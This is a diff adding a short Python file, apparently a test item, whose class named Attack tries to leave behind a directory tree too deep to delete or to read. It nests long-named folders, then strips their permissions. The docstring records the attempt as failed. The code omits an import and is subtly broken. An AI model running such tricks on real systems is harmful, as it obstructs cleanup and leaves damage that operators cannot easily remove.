@@ -1,0 +1,19 @@
+"""Success: a folder can't be removed because its path is too long, or can't be looked into, and stays.
+
+Outcome: failed: more files than the limit
+"""
+
+import time
+
+
+class Attack(Scene):
+    def construct(self):
+        home = os.open(".", os.O_RDONLY)
+        for _ in range(40):
+            os.mkdir("d" * 200)
+            os.chdir("d" * 200)
+        open("left-behind", "w").close()
+        os.chmod(".", 0)
+        os.fchdir(home)
+        os.mkdir("closed", 0)
+        time.sleep(60)
